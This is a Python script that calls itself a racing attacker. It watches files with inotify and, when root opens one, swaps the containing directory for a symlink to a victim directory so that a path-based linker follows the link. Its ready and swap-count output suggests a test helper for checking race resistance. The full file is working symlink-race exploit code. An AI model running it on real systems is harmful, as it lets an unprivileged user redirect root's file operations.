"""A user's racing attacker: swaps a cache's directory for a symlink the moment root opens a
file in it (inotify ``IN_OPEN``, through ctypes: no third-party module).

``python swap_attacker.py VICTIM_DIR HOLD_SECONDS FILE...``: watches each FILE; when one is
opened, renames its directory aside, puts a symlink to VICTIM_DIR in its place, holds it for
HOLD_SECONDS (root is hashing the opened file meanwhile: a path-based linker that then links
or renames by path goes through the symlink), and puts the directory back. Prints ``ready``
once every watch is armed and, on exit (SIGTERM), the number of swaps. Standard library
only, so it runs under any interpreter the attacking user may execute.
"""

from __future__ import annotations

import ctypes
import os
import signal
import struct
import sys
import time

IN_OPEN = 0x00000020
_EVENT = struct.Struct("iIII")


def _swap(leaf: str, victim: str, hold: float, done: list[int]) -> None:
    aside = leaf + ".aside"
    try:
        os.rename(leaf, aside)
    except OSError:
        return
    done[0] += 1
    try:
        os.symlink(victim, leaf)
        try:
            time.sleep(hold)
        finally:
            os.unlink(leaf)
    finally:
        os.rename(aside, leaf)


def main(argv: list[str]) -> int:
    victim, hold, files = argv[0], float(argv[1]), argv[2:]
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.inotify_init1(0)
    if fd < 0:
        print("inotify_init1 failed", ctypes.get_errno(), flush=True)
        return 2
    leaves: dict[int, str] = {}
    for path in files:
        wd = libc.inotify_add_watch(fd, os.fsencode(path), IN_OPEN)
        if wd < 0:
            print("inotify_add_watch failed", path, ctypes.get_errno(), flush=True)
            return 2
        leaves[wd] = os.path.dirname(path)
    swaps = [0]

    def stop(signum: int, frame: object) -> None:
        raise SystemExit(0)

    signal.signal(signal.SIGTERM, stop)
    print("ready", flush=True)
    try:
        while True:
            data = os.read(fd, 1 << 16)
            offset = 0
            opened: list[str] = []
            while offset + _EVENT.size <= len(data):
                wd, mask, _cookie, length = _EVENT.unpack_from(data, offset)
                offset += _EVENT.size + length
                if mask & IN_OPEN and wd in leaves:
                    opened.append(leaves[wd])
            for leaf in dict.fromkeys(opened):
                _swap(leaf, victim, hold, swaps)
    finally:
        print("swaps", swaps[0], flush=True)


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
